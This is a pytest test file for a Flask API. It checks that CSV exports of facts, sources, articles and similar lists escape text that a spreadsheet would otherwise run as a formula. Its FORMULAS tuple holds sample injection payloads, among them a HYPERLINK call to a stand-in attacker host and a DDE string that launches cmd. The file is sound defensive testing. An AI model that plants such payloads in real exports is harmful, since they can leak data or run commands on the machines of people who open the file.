"""CSV exports: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import copy
import csv
import io

import pytest
import yaml
from flask.testing import FlaskClient

from api import create_app
from models import make_database
from seeds.loader import load_paths
from tests.story_files import BASE, fact

FORMULAS = ('=HYPERLINK("http://evil.example/?x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd")
# Every list that answers CSV (the OpenAPI document's text/csv responses), with the
# parameters it requires; test_every_csv_export_is_covered keeps this list complete.
CSV_EXPORTS = {
    "/v1/facts.csv": "",
    "/v1/sources.csv": "",
    "/v1/articles.csv": "",
    "/v1/briefings.csv": "",
    "/v1/timeline.csv": "subject=floods&measure=killed",
    "/v1/units.csv": "",
    "/v1/places.csv": "",
    "/v1/versions.csv": "",
}
# CSV the spec does not list as an operation of its own: `format=csv` on the lists (the
# same writer as their exports) and the timeline's own columns.
FORMAT_CSV = {
    "/v1/facts": "format=csv",
    "/v1/timeline": "subject=floods&measure=killed&format=csv",
}


@pytest.fixture
def client(empty_database_url, tmp_path) -> FlaskClient:
    document = copy.deepcopy(BASE)
    document["sources"][0]["name"] = FORMULAS[2]
    document["articles"][0]["outlet"] = FORMULAS[1]
    document["units"][0]["name"] = FORMULAS[3]
    document["places"][1]["name"] = FORMULAS[0]
    document["briefings"] = [
        {"id": "b1", "source": "who", "date": "2023-09-14", "venue": FORMULAS[0]}
    ]
    document["facts"] = [
        fact(
            "f1",
            claim=FORMULAS[0],
            notes=FORMULAS[1],
            location=FORMULAS[3],
            place="derna",
            briefing="b1",
            briefing_date="2023-09-14",
            date_precision="day",
        )
    ]
    path = tmp_path / "story.yaml"
    path.write_text(yaml.safe_dump(document, sort_keys=False))
    db = make_database(empty_database_url)
    load_paths([path], into=db)
    db.close()
    return create_app({"DATABASE_URL": empty_database_url}).test_client()


def test_every_csv_export_is_covered(client):
    spec = client.get("/openapi.json").get_json()
    exports = {
        path
        for path, operations in spec["paths"].items()
        if "text/csv"
        in operations.get("get", {}).get("responses", {}).get("200", {}).get("content", {})
    }
    assert exports == set(CSV_EXPORTS)


@pytest.mark.parametrize("path", [*CSV_EXPORTS, *FORMAT_CSV])
def test_no_csv_cell_starts_a_formula(client, path):
    query = CSV_EXPORTS.get(path, FORMAT_CSV.get(path))
    response = client.get(f"{path}?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1:], "the export must hold the hostile rows"
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only a negative number may start with '-'
    written = {cell[1:] for cell in cells if cell.startswith("'")}
    assert written <= set(FORMULAS)
    if path != "/v1/versions.csv":  # the one list that shows no text of the story's
        assert written, "some text on this list starts like a formula and must be quoted"


def test_json_keeps_the_raw_text(client):
    item = client.get("/v1/facts/f1").get_json()
    assert item["claim"] == FORMULAS[0] and item["notes"] == FORMULAS[1]
    lines = client.get("/v1/facts?format=ndjson").get_data(as_text=True)
    assert FORMULAS[0].replace('"', '\\"') in lines
